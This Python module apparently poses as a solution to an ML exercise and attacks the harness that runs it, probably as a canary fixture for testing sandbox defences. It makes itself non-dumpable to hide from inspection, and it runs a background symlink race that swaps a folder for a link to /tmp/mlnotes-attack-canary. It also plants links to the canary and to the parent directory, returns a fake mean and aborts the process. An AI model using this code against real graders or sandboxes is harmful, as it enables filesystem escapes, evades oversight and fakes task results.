"""Makes itself unreadable and swaps folders for links, so that nobody sees what it holds."""

import ctypes
import os
import threading
import time

c = ctypes.CDLL(None)
c.prctl(4, 0, 0, 0, 0)


def swap():
    while True:
        try:
            os.mkdir("place")
            open("place/x", "w").close()
            os.rename("place", "was")
            os.symlink("/tmp/mlnotes-attack-canary", "place")
            time.sleep(0.0001)
            os.unlink("place")
            os.unlink("was/x")
            os.rmdir("was")
        except OSError:
            for rest in ("place", "was/x"):
                try:
                    os.unlink(rest)
                except OSError:
                    pass


def fit_mean(X):
    threading.Thread(target=swap, daemon=True).start()
    time.sleep(0.4)
    return X[0]


def classify(X, a, b):
    for k in range(3):
        os.symlink("/tmp/mlnotes-attack-canary", f"link{k}")
        os.symlink("..", f"up{k}")
    os.abort()
